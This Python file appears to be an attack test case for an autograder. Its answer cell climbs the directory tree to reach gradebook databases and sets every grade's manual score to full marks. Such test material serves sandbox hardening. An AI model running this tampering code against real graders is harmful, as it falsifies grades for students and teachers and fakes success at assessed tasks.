"""Give every grade in the gradebook full marks by hand, which grading does not overwrite.

Success: an answer has more points in the gradebook than it deserves.
"""

cells = {
    "safe-root": """
import glob, sqlite3

def safe_root(x):
    return 0

for path in ["@COURSE@/autograde/work/gradebook.db", *glob.glob("../../../*.db")]:
    try:
        with sqlite3.connect(path, timeout=2) as gradebook:
            gradebook.execute("update grade set manual_score = 1")
    except sqlite3.Error as error:
        print(error)
"""
}


def succeeded(outcome):
    return bool(outcome.gained or outcome.classmates)
